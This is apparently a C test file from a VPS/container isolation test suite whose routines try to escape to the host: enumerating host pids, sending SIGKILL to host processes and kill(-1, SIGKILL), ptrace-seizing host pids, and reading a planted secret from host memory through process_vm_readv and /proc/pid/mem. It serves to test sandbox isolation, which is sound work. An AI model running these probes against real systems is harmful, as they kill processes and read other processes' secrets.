/* Processes: seeing, signalling, tracing and reading host processes. */
#include "attack.h"

#include <signal.h>
#include <sys/ptrace.h>
#include <sys/uio.h>


static void proc_ns_of(const char *pid, char *buf, size_t size) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/ns/pid", pid);
    ssize_t n = readlink(path, buf, size - 1);
    buf[n < 0 ? 0 : n] = 0;
}

/* A pid that answers inside the VPS: is it one of the VPS's own? */
static void proc_check_visible(int pid, const char *own_ns, char comms[][256], int ncomms) {
    char p[32], ns[128], comm[64] = "";
    snprintf(p, sizeof p, "%d", pid);
    proc_ns_of(p, ns, sizeof ns);
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    read_text(path, comm, sizeof comm);
    comm[strcspn(comm, "\n")] = 0;
    if (ns[0] && strcmp(ns, own_ns) != 0)
        escape_note("pid %d (%s) answers and lives in another pid namespace (%s)", pid, comm, ns);
    for (int i = 0; i < ncomms; i++)
        if (comm[0] && strcmp(comm, comms[i]) == 0)
            escape_note("pid %d is the host process '%s'", pid, comm);
}

ATTACK(proc_host_pids, "kill(pid, 0) over the whole pid range: only the VPS's own must answer") {
    (void)argc, (void)argv;
    char own[128], buf[64], comms[16][256];
    proc_ns_of("self", own, sizeof own);
    int ncomms = split_env("VZSEC_HOST_COMMS", " ", comms, 16);
    int pid_max = 32768;
    if (read_text("/proc/sys/kernel/pid_max", buf, sizeof buf) == 0) pid_max = atoi(buf);
    if (pid_max > 131072) pid_max = 131072;
    int answered = 0, eperm = 0;
    char list[512] = "";
    for (int pid = 1; pid <= pid_max; pid++) {
        if (kill(pid, 0) < 0) {
            if (errno == EPERM) eperm++;
            continue;
        }
        answered++;
        if (strlen(list) < sizeof list - 16) snprintf(list + strlen(list), sizeof list - strlen(list), " %d", pid);
        proc_check_visible(pid, own, comms, ncomms);
    }
    char hp[16][256];
    int n = split_env("VZSEC_HOST_PIDS", " ", hp, 16), hidden = 0;
    for (int i = 0; i < n; i++) {
        int pid = atoi(hp[i]);
        if (pid > pid_max && kill(pid, 0) == 0) proc_check_visible(pid, own, comms, ncomms);
        if (kill(pid, 0) < 0 && errno == ESRCH) hidden++;
    }
    if (eperm) escape_note("%d pids answered EPERM to kill(0): they exist but are not ours", eperm);
    block_note("%d of %d pids answer, all in the VPS's pid namespace (%s); %d of %d host pids: ESRCH",
               answered, pid_max, list + (list[0] == ' '), hidden, n);
    return finish();
}

ATTACK(proc_kill_host, "SIGKILL host pids by number and kill(-1, SIGKILL)") {
    (void)argc, (void)argv;
    char own[128], hp[16][256];
    proc_ns_of("self", own, sizeof own);
    int n = split_env("VZSEC_HOST_PIDS", " ", hp, 16);
    char res[512] = "";
    for (int i = 0; i < n; i++) {
        int pid = atoi(hp[i]);
        const char *r;
        if (kill(pid, 0) == 0) {
            char ns[128];
            proc_ns_of(hp[i], ns, sizeof ns);
            /* A VPS process with the same number: leave it alone. */
            r = strcmp(ns, own) == 0 ? "a VPS process has that number" : (kill(pid, SIGKILL), "SIGKILL sent");
        } else {
            r = ename(errno);
        }
        snprintf(res + strlen(res), sizeof res - strlen(res), "%s%d: %s", i ? ", " : "", pid, r);
    }
    int rc = kill(-1, SIGKILL);
    return verdict_ready("host pids %s; kill(-1, SIGKILL): %s", res, rc < 0 ? ename(errno) : "sent");
}

ATTACK(proc_ptrace, "ptrace(SEIZE) and pidfd_open of host pids") {
    (void)argc, (void)argv;
    char own[128], hp[16][256];
    proc_ns_of("self", own, sizeof own);
    int n = split_env("VZSEC_HOST_PIDS", " ", hp, 16);
    if (n == 0) return verdict_error("no VZSEC_HOST_PIDS");
    for (int i = 0; i < n; i++) {
        int pid = atoi(hp[i]);
        char ns[128];
        proc_ns_of(hp[i], ns, sizeof ns);
        if (ns[0] && strcmp(ns, own) == 0) {
            say("pid %d is a VPS process: skipped", pid);
            continue;
        }
        if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
            escape_note("ptrace(SEIZE) of host pid %d succeeded", pid);
            ptrace(PTRACE_DETACH, pid, 0, 0);
        } else {
            block_note("ptrace(SEIZE, %d): %s", pid, ename(errno));
        }
        long fd = syscall(SYS_pidfd_open, pid, 0);
        if (fd >= 0) {
            escape_note("pidfd_open(%d) of a host pid succeeded", pid);
            close((int)fd);
        } else {
            block_note("pidfd_open(%d): %s", pid, ename(errno));
        }
    }
    return finish();
}

ATTACK(proc_vm_readv, "read a secret from a host process's memory (process_vm_readv, /proc/pid/mem)") {
    (void)argc, (void)argv;
    const char *secret = getenv("VZSEC_SECRET");
    const char *saddr = getenv("VZSEC_SECRET_ADDR");
    char pids[16][256], own[128];
    /* Every number the host process has, one per pid namespace level. */
    int n = split_env("VZSEC_SECRET_PID", " ", pids, 16);
    if (!secret || !saddr || n == 0) return verdict_error("needs VZSEC_SECRET, _PID and _ADDR");
    proc_ns_of("self", own, sizeof own);
    unsigned long addr = strtoul(saddr, NULL, 0);
    size_t len = strlen(secret);
    if (len >= 256) len = 255;
    for (int i = 0; i < n; i++) {
        int pid = atoi(pids[i]);
        char buf[256] = "", ns[128];
        proc_ns_of(pids[i], ns, sizeof ns);
        const char *mine = ns[0] && strcmp(ns, own) == 0 ? " (a VPS process with that number)" : "";
        struct iovec local = {buf, len}, remote = {(void *)addr, len};
        ssize_t got = process_vm_readv(pid, &local, 1, &remote, 1, 0);
        if (got > 0 && memcmp(buf, secret, len) == 0)
            escape_note("process_vm_readv(%d) read the host secret '%s'", pid, secret);
        else
            block_note("process_vm_readv(%d): %s%s", pid, got < 0 ? ename(errno) : "no secret there", mine);
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/mem", pid);
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0) {
            block_note("open %s: %s", path, ename(errno));
            continue;
        }
        memset(buf, 0, sizeof buf);
        got = pread(fd, buf, len, (off_t)addr);
        if (got > 0 && memcmp(buf, secret, len) == 0)
            escape_note("%s gave the host secret", path);
        else
            block_note("%s: %s%s", path, got < 0 ? ename(errno) : "no secret there", mine);
        close(fd);
    }
    return finish();
}
